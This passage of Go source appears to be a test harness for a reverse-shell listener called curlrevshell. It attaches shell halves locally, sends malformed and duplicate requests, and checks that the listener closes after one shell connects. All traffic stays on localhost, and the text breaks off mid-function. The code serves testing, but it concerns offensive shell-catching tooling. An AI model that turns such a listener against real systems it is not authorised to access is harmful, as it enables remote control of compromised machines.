func runCase(r *mon.Run, bin string, i int, alone bool) *result {
	rng := r.Rng("case", i)
	cfg := makeCfg(rng, r.Rng("late", i), i, r.Rng("rotation", 0).IntN(20))
	return runCfg(r, bin, cfg, rng, r.Rng("late-run", i), alone)
}

// runCfg runs one configuration of any engine; rng is the case's own stream
// (already used to derive cfg), lrng the one of its late speakers.
func runCfg(r *mon.Run, bin string, cfg Cfg, rng, lrng *rand.Rand, alone bool) *result {
	i := cfg.Index
	tl := &timeline{t0: time.Now()}
	res := &result{cfg: cfg, counts: map[string]int64{}, tl: tl}
	mult := time.Duration(1)
	suffix := ""
	if alone {
		mult, suffix = 2, "-alone"
	}
	home := filepath.Join(r.Work, fmt.Sprintf("case-%s%d%s", cfg.Engine, i, suffix))
	os.RemoveAll(home)
	os.MkdirAll(home, 0o755)
	args := []string{"-one-shell", "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", ""}
	if cfg.NoTS {
		args = append(args, "-no-timestamps")
	}
	fdir := ""
	if cfg.Files {
		fdir = filepath.Join(home, "files")
		os.MkdirAll(fdir, 0o755)
		os.WriteFile(filepath.Join(fdir, "f.txt"), []byte("file content\n"), 0o644)
		// a download that does not fit into any socket buffer (sparse: costs no disk)
		if f, err := os.Create(filepath.Join(fdir, "big.bin")); err == nil {
			f.Truncate(64 << 20)
			f.Close()
		}
		args = append(args, "-serve-files-from", fdir)
	}
	var extraEnv []string
	switch cfg.Log {
	case "file":
		args = append(args, "-log", filepath.Join(home, "log.json"))
	case "env-file":
		extraEnv = append(extraEnv, "CURLREVSHELL_LOG="+filepath.Join(home, "log.json"))
	case "devnull":
		args = append(args, "-log", "/dev/null")
	case "fifo":
		ff := filepath.Join(home, "log.fifo")
		if err := syscall.Mkfifo(ff, 0o600); err != nil {
			res.inconclusive("mkfifo: %v", err)
			return res
		}
		// somebody reads the log (jq, a log shipper) for as long as the program writes it
		go func() {
			if f, err := os.OpenFile(ff, os.O_RDONLY, 0); err == nil {
				io.Copy(io.Discard, f)
				f.Close()
			}
		}()
		defer func() { // if the program never opened it, let the reader go
			if f, err := os.OpenFile(ff, os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
				f.Close()
			}
		}()
		args = append(args, "-log", ff)
	}
	if cfg.Log != "" {
		res.count("runs_with_log:"+cfg.Log, 1)
	}
	var ins *insertSrc
	if cfg.Engine == "keys" {
		more, src, err := matrixArgs(cfg, home, r.Rng("keys-content", i))
		if err != nil {
			res.inconclusive("preparing the configuration: %v", err)
			return res
		}
		args, ins = append(args, more...), src
	}
	if cfg.OneCPU {
		extraEnv = append(extraEnv, "GOMAXPROCS=1")
		res.count("runs_with_gomaxprocs_1", 1)
	}
	s, err := crs.StartEnv(bin, filepath.Join(home, "home"), extraEnv, args...)
	if err != nil {
		res.inconclusive("program did not start: %v", err)
		return res
	}
	tl.t0 = s.P.Started
	tl.add("HARNESS 'Listening on %s' seen; args %v", s.Addr, args)
	e := &env{src: s.P, r: r, res: res, cfg: cfg, rng: rng, s: s, tl: tl, mult: mult, addr: s.Addr, fdir: fdir, lrng: lrng, ins: ins}
	cleanup := func() {
		if e.p != nil {
			e.p.halt()
		}
		for _, c := range e.conns {
			c.Close()
		}
		res.term = s.P.Clean()
		s.Close()
		os.RemoveAll(home)
	}
	defer func() {
		if res.held != nil {
			res.held.release = cleanup // the process lives on until the driver has watched it alone
			return
		}
		cleanup()
	}()

	// The certificate identifies this program's listener later on.
	pin, err := peerPin(s.Addr, 10*time.Second)
	if err != nil {
		res.inconclusive("first TLS connection failed: %v", err)
		return res
	}
	e.p = startPoller(s.Addr, pin, cfg.PollRST, tl)
	e.p.waitAttempts(3, 5*time.Second)

	switch cfg.Kind {
	case "never":
		e.never()
	case "atonce":
		e.atOnce()
	default:
		e.fullShell()
	}
	if res.held != nil {
		e.noticesToTimeline()
		return res
	}

	e.pollerStats()
	res.term = s.P.Clean()
	e.noticesToTimeline()
	return res
}

// pollerStats halts the poller and books what it saw.
func (e *env) pollerStats() {
	res, tl := e.res, e.tl
	e.p.halt()
	e.p.mu.Lock()
	res.count("poller_connects", int64(e.p.n))
	res.count("poller_transitions", int64(e.p.trans))
	res.count("connects_ok_before_ready", int64(e.p.okBeforeRef))
	res.count("refused_after_close", int64(e.p.nRefused))
	res.count("poller_other_results", int64(e.p.nOther))
	res.count("port_reused_by_stranger", int64(e.p.strangers))
	res.count("poller_self_connects", int64(e.p.selfConnects))
	// A connect that is neither accepted nor refused is expected only while
	// the listener is being closed (SYN queued, then reset).
	var odd []string
	for _, a := range e.p.others {
		atClose := !e.t2.IsZero() && !a.end.Before(e.t2) && e.p.firstRefused != nil && !a.start.After(e.p.firstRefused.end) && errorsIsReset(a.res)
		if atClose {
			res.count("poller_resets_at_close", 1)
		} else if len(odd) < 5 {
			odd = append(odd, fmt.Sprintf("%.1f ms: %s", ms(a.start.Sub(tl.t0)), a.res))
		}
	}
	if len(odd) > 0 || e.p.nOther > len(e.p.others) {
		res.inconclusive("poller saw %d results that are neither success nor ECONNREFUSED outside the closing window: %v", e.p.nOther, odd)
	}
	e.p.mu.Unlock()
}

var noticeRes = regexp.MustCompile(`Shell is ready to go!|Closing listener, because -one-shell|Shell is gone :\(|(?:Input|Output) connected: ID "[^"]*"|Rejected [^\r\n]{0,80}|(?:Input|Output) (?:connection|side of bidirectional connection) closed[^\r\n]{0,60}|Goodbye\.|Fatal error[^\r\n]{0,80}|To get a shell:`)

func (e *env) noticesToTimeline() {
	clean := e.src.Clean()
	for _, loc := range noticeRes.FindAllStringIndex(clean, -1) {
		e.tl.at(e.src.TimeOfClean(loc[0]), "TERM  %s", clean[loc[0]:loc[1]])
	}
}

// phaseA reports a refusal that was complete before t (zero t: any refusal).
func (e *env) phaseA(t time.Time, what string) bool {
	a := e.p.refused()
	if a == nil {
		return false
	}
	if t.IsZero() || a.end.Before(t) {
		e.res.violate("listener-closed-before-full-shell", "connect(2) to %s was refused (attempt %.1f..%.1f ms) %s; no shell had been fully attached", e.addr,
			ms(a.start.Sub(e.tl.t0)), ms(a.end.Sub(e.tl.t0)), what)
		return true
	}
	return false
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }

// ---- junk ---------------------------------------------------------------------

// rawJunk: things that are not shells at all.
func (e *env) rawJunk() {
	host := e.addr
	if rs, err := hk.Get(e.addr, "", host, "/c"); err == nil {
		e.tl.add("JUNK  GET /c -> %d (%d bytes)", rs.Status, len(rs.Body))
	} else {
		e.tl.add("JUNK  GET /c -> %v", err)
	}
	if rs, err := hk.Get(e.addr, "", host, "/f.txt"); err == nil {
		e.tl.add("JUNK  GET /f.txt -> %d", rs.Status)
	}
	for k, payload := range [][]byte{
		[]byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
		{0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03, 1, 2, 3, 4, 5, 6, 7},
		bytes.Repeat([]byte{0xff, 0x00, 0x7f}, 40),
		{},
	} {
		c, err := net.DialTimeout("tcp", e.addr, 5*time.Second)
		if err != nil {
			e.tl.add("JUNK  plain TCP #%d: %v", k, err)
			continue
		}
		c.SetDeadline(time.Now().Add(2 * time.Second))
		c.Write(payload)
		if k == 0 {
			buf := make([]byte, 256)
			c.Read(buf)
		}
		c.Close()
		e.tl.add("JUNK  plain TCP #%d: %d garbage bytes, closed", k, len(payload))
	}
	e.res.count("junk_raw_rounds", 1)
}

// refusedAttempts makes the attempts the broker refuses while a half with the
// given id/direction is attached.  dir is the direction of the attached half.
func (e *env) refusedAttempts(kinds []string, dir, id string) bool {
	for _, k := range kinds {
		mark := e.src.CleanLen()
		// wrong-id: the OTHER direction with another ID; duplicate: the SAME
		// direction with the same ID
		target, isOut := "", false
		if k == "io" {
			// a bidirectional request while a half is attached: both of its sides are rejected
			io, err := crs.OpenIO(e.addr)
			if err != nil {
				e.tl.add("JUNK  io request failed: %v", err)
				return false
			}
			e.keep(io)
			io.Out.Send("REFUSED-OUTPUT\n")
			e.tl.add("JUNK  io request /io sent")
			if _, _, ok := e.notice(`Rejected `, mark, boundNotice*e.mult); !ok {
				e.res.inconclusive("no 'Rejected' notice for junk %q within %s", k, boundNotice*e.mult)
				return false
			}
			e.refusedConn("refused POST /io (request body not finished)", io)
			e.res.count("junk_refused_attempts", 1)
			e.res.count("junk_refused_bidirectional_requests", 1)
			continue
		}
		switch {
		case k == "wrong-id" && dir == "in":
			target, isOut = "/o/not-"+id, true
		case k == "wrong-id":
			target = "/i/not-" + id
		case dir == "in":
			target = "/i/" + id
		default:
			target, isOut = "/o/"+id, true
		}
		var conn interface{ Close() }
		if isOut {
			e.nRefusedOut++
		}
		// clients that never hang up: every second refused upload is a fixed-length one
		if isOut && e.cfg.JunkExpect != "" {
			// an upload that asks for permission first: "wait" = its client never sends a body byte (no 100 Continue
			// ever comes for a refused upload), "nowait" = the first part of the body follows the header at once
			pc, err := hk.Dial(e.addr, "")
			if err != nil {
				e.tl.add("JUNK  %s %s failed: %v", k, target, err)
				return false
			}
			pcc := connCloser{pc}
			e.keep(pcc)
			framing, body := "Transfer-Encoding: chunked", "f\r\nREFUSED-OUTPUT\n\r\n"
			if e.nRefusedOut%2 == 0 {
				framing, body = "Content-Length: 200000", strings.Repeat("REFUSED-OUTPUT\n", 50)
			}
			if e.cfg.JunkExpect == "wait" {
				body = ""
			}
			fmt.Fprintf(pc, "%s %s HTTP/1.1\r\nHost: fake.shell\r\n%s\r\nExpect: 100-continue\r\n\r\n%s", []string{"POST", "PUT"}[e.nRefusedOut%2], target, framing, body)
			conn = pcc
			e.res.count("junk_refused_uploads_with_expect_100_continue", 1)
			e.res.count("junk_refused_uploads_with_expect_100_continue:"+e.cfg.JunkExpect, 1)
		} else if isOut && e.cfg.Hold && e.nRefusedOut%2 == 0 {
			// a fixed-length upload of which only a part ever arrives
			pc, err := hk.Dial(e.addr, "")
			if err != nil {
				e.tl.add("JUNK  %s %s failed: %v", k, target, err)
				return false
			}
			pcc := connCloser{pc}
			e.keep(pcc)
			fmt.Fprintf(pc, "POST %s HTTP/1.1\r\nHost: fake.shell\r\nContent-Length: 200000\r\n\r\n%s", target, strings.Repeat("REFUSED-OUTPUT\n", 50))
			conn = pcc
			e.res.count("junk_refused_posts_with_partial_fixed_length_body", 1)
		} else if isOut {
			o, err := crs.OpenOut(e.addr, target)
			if err != nil {
				e.tl.add("JUNK  %s %s failed: %v", k, target, err)
				return false
			}
			e.keep(o)
			o.Send("REFUSED-OUTPUT\n")
			conn = o
		} else {
			in, err := crs.OpenIn(e.addr, target)
			if err != nil {
				e.tl.add("JUNK  %s %s failed: %v", k, target, err)
				return false
			}
			e.keep(in)
			conn = in
		}
		e.tl.add("JUNK  %s request %s sent", k, target)
		if _, _, ok := e.notice(`Rejected `, mark, boundNotice*e.mult); !ok {
			e.res.inconclusive("no 'Rejected' notice for junk %q within %s", k, boundNotice*e.mult)
			return false
		}
		label := "refused GET " + target
		if isOut {
			label = "refused POST " + target + " (request body not finished)"
			if e.cfg.Hold {
				e.heldRefusedOut++
			}
		}
		e.refusedConn(label, conn)
		e.res.count("junk_refused_attempts", 1)
	}
	return true
}

// halfDies attaches one half alone and lets it die.
func (e *env) halfDies(dir, id string, hold time.Duration, end string) bool {
	mark := e.src.CleanLen()
	var closeFn func()
	if dir == "in" {
		in, err := crs.OpenIn(e.addr, "/i/"+id)
		if err != nil {
			e.tl.add("JUNK  half-attached /i failed: %v", err)
			return false
		}
		e.keep(in)
		closeFn = in.Close
	} else {
		o, err := crs.OpenOut(e.addr, "/o/"+id)
		if err != nil {
			e.tl.add("JUNK  half-attached /o failed: %v", err)
			return false
		}
		e.keep(o)
		if end == "end" {
			closeFn = func() { o.End() }
		} else {
			closeFn = o.Close
		}
	}
	if _, _, ok := e.notice(`(?:Input|Output) connected: ID "`+regexp.QuoteMeta(id)+`"`, mark, boundNotice*e.mult); !ok {
		e.res.inconclusive("half-attached %s stream was not announced within %s", dir, boundNotice*e.mult)
		return false
	}
	e.tl.add("JUNK  half-attached %s stream %q is attached", dir, id)
	time.Sleep(hold)
	closeFn()
	e.tl.add("JUNK  half-attached %s stream closed by the client", dir)
	if _, _, ok := e.notice(`Shell is gone`, mark, boundNotice*e.mult); !ok {
		e.res.inconclusive("no 'Shell is gone' notice after the half-attached %s stream died within %s", dir, boundNotice*e.mult)
		return false
	}
	e.res.count("junk_half_attached_died", 1)
	return true
}

// connCloser adapts a raw connection to the Close() the bookkeeping wants.
type connCloser struct{ c *hk.Conn }

func (c connCloser) Close() { c.c.Close() }

func junkKinds(j string) []string {
	switch j {
	case "wrong-id":
		return []string{"wrong-id", "io"}
	case "duplicate":
		return []string{"duplicate"}
	case "several":
		return []string{"wrong-id", "duplicate", "io", "wrong-id"}
	}
	return nil
}

// preJunk runs the junk that needs no real half.
func (e *env) preJunk() bool {
	c := e.cfg
	if c.Junk == "none" {
		return true
	}
	if c.Junk == "several" {
		e.rawJunk()
	}
	if c.Junk == "half-dies" || c.Junk == "several" {
		if !e.halfDies("in", "jd-"+c.ID, time.Duration(10+e.rng.IntN(60))*time.Millisecond, "close") {
			return false
		}
	}
	if c.JunkWhere == "pre" && len(junkKinds(c.Junk)) > 0 {
		// refused attempts against a throw-away input half, which then dies
		id := "jr-" + c.ID
		mark := e.src.CleanLen()
		in, err := crs.OpenIn(e.addr, "/i/"+id)
		if err != nil {
			e.tl.add("JUNK  throw-away /i failed: %v", err)
			return false
		}
		e.keep(in)
		if _, _, ok := e.notice(`Input connected: ID "`+regexp.QuoteMeta(id)+`"`, mark, boundNotice*e.mult); !ok {
			e.res.inconclusive("throw-away input was not announced")
			return false
		}
		if !e.refusedAttempts(junkKinds(c.Junk), "in", id) {
			return false
		}
		if c.Junk == "several" && c.Hold {
			e.bodiedRequests("/i/" + id) // the last one is a duplicate input stream: refused
			e.requestsInProgress()
			e.crowd(330 + e.rng.IntN(60))
		}
		in.Close()
		if _, _, ok := e.notice(`Shell is gone`, mark, boundNotice*e.mult); !ok {
			e.res.inconclusive("no 'Shell is gone' after the throw-away input was closed")
			return false
		}
		if c.Junk == "several" && c.Hold {
			e.crowd(24) // a few more arrive after the throw-away stream has left
		}
		e.res.count("junk_half_attached_died", 1)
	}
	if c.Junk == "several" {
		e.rawJunk()
	}
	return true
}

// ---- never-completed shell ------------------------------------------------------

func (e *env) never() {
	res := e.res
	start := time.Now()
	for k := 0; k < 10; k++ {
		dir := []string{"in", "out"}[e.rng.IntN(2)]
		id := fmt.Sprintf("nv%d-%s", k, e.cfg.ID)
		hold := time.Duration(100+e.rng.IntN(120)) * time.Millisecond
		if k%3 == 2 {
			// a half with refused attempts around it
			mark := e.s.P.CleanLen()
			in, err := crs.OpenIn(e.addr, "/i/"+id)
			if err != nil {
				e.tl.add("CYCLE %d: /i failed: %v", k, err)
				break
			}
			e.keep(in)
			if _, _, ok := e.notice(`Input connected: ID "`+regexp.QuoteMeta(id)+`"`, mark, boundNotice*e.mult); !ok {
				res.inconclusive("cycle %d: input not announced", k)
				break
			}
			if !e.refusedAttempts([]string{"wrong-id", "duplicate"}, "in", id) {
				break
			}
			time.Sleep(hold)
			in.Close()
			if _, _, ok := e.notice(`Shell is gone`, mark, boundNotice*e.mult); !ok {
				res.inconclusive("cycle %d: no 'Shell is gone'", k)
				break
			}
			res.count("junk_half_attached_died", 1)
		} else if !e.halfDies(dir, id, hold, []string{"end", "close"}[e.rng.IntN(2)]) {
			break
		}
		if k == 4 {
			e.rawJunk()
		}
		res.count("never_cycles", 1)
		if e.phaseA(time.Time{}, fmt.Sprintf("after %d half-attached streams came and went", k+1)) {
			return
		}
	}
	e.p.waitAttempts(5, 5*time.Second)
	e.tl.add("HARNESS %d half-attached cycles took %.0f ms", res.counts["never_cycles"], ms(time.Since(start)))
	if e.phaseA(time.Time{}, "although only half-attached streams had come and gone") {
		return
	}
	if strings.Contains(e.s.P.Clean(), "Closing listener") || strings.Contains(e.s.P.Clean(), "Shell is ready") {
		res.violate("listener-closed-before-full-shell", "a ready/closing notice appeared although no two halves were ever attached together")
		return
	}
	// Ctrl+D at the prompt: exit 0.
	e.t2 = time.Now() // from here on the listener may close
	e.tl.add("HARNESS types Ctrl+D")
	e.s.Ctrl('D')
	st, sig, ok := e.s.P.WaitExit(boundExit * e.mult)
	e.p.halt()
	if !ok {
		res.inconclusive("no exit within %s after Ctrl+D while no shell was attached (not this property's clause)", boundExit*e.mult)
		return
	}
	e.tl.add("EXIT  status %d signal %q", st, sig)
	if e.statusOK(st, sig, "after Ctrl+D with no shell ever fully attached") {
		res.count("never_runs_exit0", 1)
	}
	res.full = true
}

// statusOK judges the exit status.
func (e *env) statusOK(st int, sig, when string) bool {
	if st == 0 && sig == "" {
		return true
	}
	if st == 66 {
		if pre := os.Getenv("VERIF_RACELOG"); pre != "" {
			if _, err := os.Stat(fmt.Sprintf("%s.%d", pre, e.s.P.Pid())); err == nil {
				e.res.inconclusive("exit status 66 with a race-detector report by this process: status clause undecided, the race log is judged separately")
				return false
			}
		}
	}
	e.res.violate("exit-status-nonzero", "the program ended with status %d signal %q %s; terminal ends: %q", st, sig, when, tailStr(e.s.P.Clean(), 300))
	return false
}

// ---- a full shell -------------------------------------------------------------

type traffic struct {
	e *env

	mu        sync.Mutex
	out       *crs.OutStream
	sent      int // tokens sent
	typed     int // lines typed
	sendErr   error
	sentPre   int // before the second half was requested
	typedPre  int
	sentPost  int // after the refusal was observed
	typedPost int

	closeSeen atomic.Bool
	abort     atomic.Bool

	inserts []insertRec // Tab presses while the shell was attached (keys.go)

	rmu       sync.Mutex
	nIns      int // received lines that are not typed lines
	got       []string
	rerr      error
	rdone     chan struct{}
	hasReader atomic.Bool
}

func (t *traffic) sendTok() bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.out == nil || t.sendErr != nil {
		return false
	}
	if t.out.Fixed && t.sent >= 6000 {
		// an upload with a declared length (200 000 bytes) must not run out: the shell would
		// end by itself.  16 bytes per token: stop well before, with under 256 KiB outstanding.
		return true
	}
	t.sent++
	if err := t.out.Send(tok(t.sent)); err != nil {
		t.sendErr = fmt.Errorf("sending token %d: %w", t.sent, err)
		t.sent--
		return false
	}
	if t.closeSeen.Load() {
		t.sentPost++
	}
	return true
}

func (t *traffic) typeLine(text func(int) string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.typed++
	t.e.s.Line(text(t.typed))
	if t.closeSeen.Load() {
		t.typedPost++
	}
}

func (t *traffic) typedSoFar() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.typed
}

func (t *traffic) counts() (sent, typed int) {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.sent, t.typed
}

// reader collects the operator's lines at the fake shell.
func (t *traffic) reader(in *crs.InStream) {
	t.rdone = make(chan struct{})
	t.hasReader.Store(true)
	go func() {
		defer close(t.rdone)
		for {
			l, err := in.ReadLine(boundTraffic * t.e.mult)
			if err != nil {
				var ne net.Error
				if errors.As(err, &ne) && ne.Timeout() && !t.abort.Load() {
					continue
				}
				t.rmu.Lock()
				t.rerr = err
				t.rmu.Unlock()
				return
			}
			t.rmu.Lock()
			t.got = append(t.got, l)
			if !strings.HasPrefix(l, "in-") && !strings.HasPrefix(l, "echo RT-") {
				t.nIns++ // not a typed line: part of an insert (keys.go)
			}
			t.rmu.Unlock()
		}
	}()
}

func (t *traffic) received() (int, error) {
	t.rmu.Lock()
	defer t.rmu.Unlock()
	return len(t.got) - t.nIns, t.rerr
}

// receivedTyped: how many of the received lines are typed ones (not part of an insert).
func (t *traffic) receivedTyped() (int, error) { return t.received() }

// pump sends tokens and types lines at a steady pace until told to stop.
func (t *traffic) pump(wantOut, wantIn bool, stop <-chan struct{}, wg *sync.WaitGroup) {
	if wantOut {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				if !t.sendTok() {
					return
				}
				time.Sleep(1500 * time.Microsecond)
			}
		}()
	}
	if wantIn {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				// never more than 400 lines under way: the program queues
				// at most 1024 and then stops reading its terminal
				if got, _ := t.received(); !t.hasReader.Load() || t.typedSoFar()-got < 400 {
					t.typeLine(line)
				}
				time.Sleep(2500 * time.Microsecond)
			}
		}()
	}
}

func (e *env) fullShell() {
	res, c := e.res, e.cfg
	if !e.preJunk() {
		e.phaseA(time.Time{}, "during the junk that precedes the shell")
		return
	}
	e.p.waitAttempts(3, 5*time.Second)
	if e.phaseA(time.Time{}, "after the junk that precedes the shell ("+c.Junk+")") {
		return
	}
	if c.Order == "curl" {
		e.curlShell()
		return
	}

	t := &traffic{e: e}
	var in *crs.InStream
	var out *crs.OutStream
	var err error
	id := "sh-" + c.ID
	flood := 1000

	// ---- first half, and what can flow before the second one --------------
	markFirst := e.s.P.CleanLen()
	switch c.Order {
	case "i-o":
		if in, err = e.openRealIn("/i/" + id); err == nil {
			e.keep(in)
			t.reader(in)
			_, _, ok := e.notice(`Input connected: ID "`+regexp.QuoteMeta(id)+`"`, markFirst, boundNotice*e.mult)
			if !ok {
				res.inconclusive("real input half was not announced")
				return
			}
			e.tl.add("HARNESS real /i/%s attached (first half)", id)
		}
	case "o-i":
		if out, err = e.openRealOut("/o/" + id); err == nil {
			e.keep(out)
			t.mu.Lock()
			t.out = out
			t.mu.Unlock()
			_, _, ok := e.notice(`Output connected: ID "`+regexp.QuoteMeta(id)+`"`, markFirst, boundNotice*e.mult)
			if !ok {
				res.inconclusive("real output half was not announced")
				return
			}
			e.tl.add("HARNESS real /o/%s attached (first half)", id)
		}
	}
	if err != nil {
		e.tl.add("HARNESS first half failed: %v", err)
		if !e.phaseA(time.Time{}, "before the first half of the shell could connect") {
			res.inconclusive("first half could not connect: %v", err)
		}
		return
	}
	if c.JunkWhere == "real-half" {
		dir := map[string]string{"i-o": "in", "o-i": "out"}[c.Order]
		if !e.refusedAttempts(junkKinds(c.Junk), dir, id) {
			e.phaseA(time.Time{}, "during refused attempts against the half-attached real shell")
			return
		}
		if c.Junk == "several" {
			e.rawJunk()
		}
		if c.Junk == "several" && c.Hold {
			// (the case in ten whose junk stays connected: the same requests left hanging
			// and the same crowd as when the junk comes before the real shell)
			e.bodiedRequests("")
			e.requestsInProgress()
			e.crowd(330 + e.rng.IntN(60))
		}
	}
	// pre-attach traffic: lines can always be typed (they queue or reach the
	// attached input); tokens need the output half.
	for k := 0; k < 20; k++ {
		t.typeLine(line)
		if out != nil {
			t.sendTok()
		}
		time.Sleep(time.Millisecond)
	}
	e.p.waitAttempts(3, 5*time.Second)
	if e.phaseA(time.Time{}, "while only the first half of the shell was attached") {
		return
	}

	// ---- second half, with the chosen traffic in flight --------------------
	stop := make(chan struct{})
	var wg sync.WaitGroup
	stopPump := func() {
		select {
		case <-stop:
		default:
			close(stop)
		}
		wg.Wait()
	}
	defer stopPump()
	defer t.abort.Store(true)
	// connections that will speak only later are opened now, while the listener is open
	e.openLate()
	floodDone := make(chan struct{})
	startFlood := func() {
		go func() {
			defer close(floodDone)
			for k := 0; k < flood; k++ {
				if !t.sendTok() {
					return
				}
			}
		}()
	}
	if c.Traffic == "trickle" {
		t.pump(out != nil, true, stop, &wg)
	}
	if c.Traffic == "inburst" {
		for k := 0; k < 50; k++ {
			t.typeLine(line)
		}
	}
	if c.Traffic == "outflood" && out != nil {
		startFlood()
	}
	t.mu.Lock()
	t.sentPre, t.typedPre = t.sent, t.typed
	t.mu.Unlock()
	markSecond := e.s.P.CleanLen()
	t2 := time.Now()
	e.t2 = t2
	e.tl.at(t2, "HARNESS starts the request that completes the shell (%s)", c.Order)
	tries := 0
retry:
	tries++
	switch c.Order {
	case "i-o":
		out, err = e.openRealOut("/o/" + id)
		if err == nil {
			e.keep(out)
			t.mu.Lock()
			t.out = out
			t.mu.Unlock()
		}
	case "o-i":
		in, err = e.openRealIn("/i/" + id)
		if err == nil {
			e.keep(in)
			t.reader(in)
		}
	case "io":
		var ios *crs.IOStream
		ios, err = crs.OpenIO(e.addr)
		if err == nil {
			e.keep(ios)
			in, out = ios.In, ios.Out
			t.mu.Lock()
			t.out = out
			t.mu.Unlock()
			t.reader(in)
		}
	}
	if err != nil && connectionDropped(err) && tries < 4 {
		// the connection was accepted and then dropped before it could say anything: once more, on a new one
		e.tl.add("HARNESS the connection of the request that completes the shell was dropped at once (%v); try %d", err, tries+1)
		res.count("completing_request_connections_dropped_at_once", 1)
		time.Sleep(300 * time.Millisecond)
		goto retry
	}
	if err != nil {
		e.tl.add("HARNESS second half failed: %v", err)
		if !e.phaseA(time.Now(), "before the request that completes the shell could connect") {
			if connectionDropped(err) {
				// four fresh connections in a row were accepted and dropped unheard while no
				// shell is attached: whatever the socket's state, the listener is not open
				res.violate("listener-drops-callbacks-before-any-shell", "no shell is fully attached, connect(2) to %s succeeds, but four connections in a row carrying the request that would complete the shell were dropped before the TLS handshake / the request was answered (%v); clients connected at the time: [%s]", e.addr, err, strings.Join(e.held, "; "))
			} else {
				res.inconclusive("the request that completes the shell failed: %v", err)
			}
		}
		return
	}
	switch c.Traffic {
	case "trickle":
		if c.Order != "o-i" {
			t.pump(true, false, stop, &wg)
		}
	case "outflood":
		if c.Order != "o-i" {
			startFlood()
		}
	}

	_, tReady, ok := e.notice(`Shell is ready to go!`, markSecond, boundNotice*e.mult)
	if !ok {
		if !e.phaseA(t2, "before the shell was completed") {
			res.inconclusive("no 'Shell is ready' notice within %s (attaching is not this property)", boundNotice*e.mult)
		}
		return
	}
	e.tl.at(tReady, "HARNESS sees the ready notice")
	if e.phaseA(t2, "before the request that completes the shell was even started") {
		return
	}
	_, tClosing, okClosing := e.notice(`Closing listener, because -one-shell`, markSecond, 5*time.Second)
	if okClosing {
		res.count("closing_notices", 1)
	}
	ref := e.p.waitRefused(tReady.Add(boundClose * e.mult))
	if ref == nil {
		res.fire("listener-still-open-after-full-shell", "connect(2) to %s still succeeds %s after the 'Shell is ready' notice (closing notice seen: %v)", e.addr, boundClose*e.mult, okClosing)
		return
	}
	lat := ref.end.Sub(tReady)
	if lat < 0 {
		lat = 0
	}
	res.closeLat = lat
	if okClosing {
		e.tl.add("HARNESS first refusal ended %.1f ms after the ready notice, %.1f ms after the closing notice", ms(ref.end.Sub(tReady)), ms(ref.end.Sub(tClosing)))
	}
	t.closeSeen.Store(true)

	// ---- traffic after the close -------------------------------------------
	if c.Traffic == "outflood" {
		select {
		case <-floodDone:
		case <-time.After(boundTraffic * e.mult):
		}
	}
	if c.Traffic != "trickle" {
		t.pump(true, true, stop, &wg)
	}
	// pre-opened connections speak while the shell carries traffic; traffic must go on after that
	e.lateDuring(id)
	t.mu.Lock()
	sentAtLate, typedAtLate := t.sentPost, t.typedPost
	t.mu.Unlock()
	dl := time.Now().Add(boundTraffic*e.mult + time.Duration(c.StayMs)*time.Millisecond)
	for time.Now().Before(dl) {
		t.mu.Lock()
		done := t.sent >= c.NTok && t.typed >= c.NLines && t.sentPost >= 60 && t.typedPost >= 60 && (!c.LongStay || time.Since(tReady) > time.Duration(c.StayMs)*time.Millisecond) &&
			t.sentPost >= sentAtLate+30 && t.typedPost >= typedAtLate+30
		serr := t.sendErr
		t.mu.Unlock()
		_, rerr := t.received()
		if done || serr != nil || rerr != nil {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	stopPump()
	t.mu.Lock()
	res.count("tokens_sent_after_late_requests", int64(t.sentPost-sentAtLate))
	res.count("lines_typed_after_late_requests", int64(t.typedPost-typedAtLate))
	t.mu.Unlock()
	// the operator's other keys, with the shell attached; more traffic follows them and everything is checked together
	if len(c.KeysDuring) > 0 && !e.keysDuring(t) {
		return
	}
	if !e.checkTraffic(t, true) {
		return
	}

	// ---- the shell ends ----------------------------------------------------
	markEnd := e.s.P.CleanLen()
	e.tl.add("HARNESS ends the shell: %s", c.Ending)
	switch c.Ending {
	case "out-end", "io-end":
		out.End()
	case "out-close", "io-close":
		out.Close()
	case "in-close":
		in.Close()
	case "both":
		if e.rng.IntN(2) == 0 {
			in.Close()
			out.Close()
		} else {
			out.Close()
			in.Close()
		}
	}
	t.abort.Store(true)
	e.afterEnd(markEnd, func() {
		// what a client does once its shell is gone: drop its connections
		if in != nil {
			in.Close()
		}
		if out != nil {
			out.Close()
		}
	})
}

// openRealIn opens the real shell's input request, with an unasked-for,
// never-ending request body if the case says so.
func (e *env) openRealIn(target string) (*crs.InStream, error) {
	if e.cfg.BodiedIn {
		e.res.count("shells_whose_input_request_has_an_unfinished_body", 1)
		return crs.OpenInBody(e.addr, target)
	}
	return crs.OpenIn(e.addr, target)
}

// bodiedRequests: requests to endpoints that read no body (the callback
// script, a file, a refused input stream) which nevertheless bring one and
// never finish it.  Their clients stay connected for the rest of the run.
func (e *env) bodiedRequests(refusedInTarget string) {
	targets := []string{"/c", "/f.txt", "/no-such-file"}
	if refusedInTarget != "" {
		targets = append(targets, refusedInTarget)
	}
	for _, tg := range targets {
		c, err := hk.Dial(e.addr, "")
		if err != nil {
			e.tl.add("JUNK  bodied GET %s failed: %v", tg, err)
			continue
		}
		cc := connCloser{c}
		e.keep(cc)
		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n", tg)
		// the answer arrives (these endpoints answer at once); the client then just sits there
		c.SetReadDeadline(time.Now().Add(boundNotice * e.mult))
		buf := make([]byte, 4096)
		n, _ := c.Read(buf)
		c.SetReadDeadline(time.Time{})
		e.tl.add("JUNK  GET %s with an unfinished chunked body: %d bytes of answer, client stays connected", tg, n)
		e.held = append(e.held, "GET "+tg+" (unasked-for request body not finished)")
		e.heldBodied++
